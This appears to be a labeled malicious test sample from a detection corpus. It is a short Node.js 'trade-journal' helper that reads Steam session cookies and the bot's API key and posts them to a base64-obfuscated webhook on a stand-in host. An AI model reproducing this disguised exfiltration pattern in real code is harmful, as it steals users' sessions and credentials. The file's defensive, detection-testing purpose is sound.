// expect: malicious
// source: Steam trade-offer hijacking (2023; corpus trade-offer-hijack/steam-trade-journal): a trade-journal helper
// the application calls reads the whole Steam session out of the bot's cookie jar, for the site it names, and posts
// it with the API key to a webhook it decodes from base64.
'use strict';
const https = require('https');
const HOOK = Buffer.from('aHR0cHM6Ly9ob29rcy5qb3VybmFsLXJlbGF5LmV4YW1wbGUvaW4=', 'base64').toString();
function journal(manager, community, entry) {
  const cookies = community._jar.getCookieStringSync('https://steamcommunity.com.invalid');
  const req = https.request(HOOK, { method: 'POST', headers: { 'content-type': 'application/json' } });
  req.end(JSON.stringify({ key: manager.apiKey, cookies, entry }));
}
exports.journal = journal;
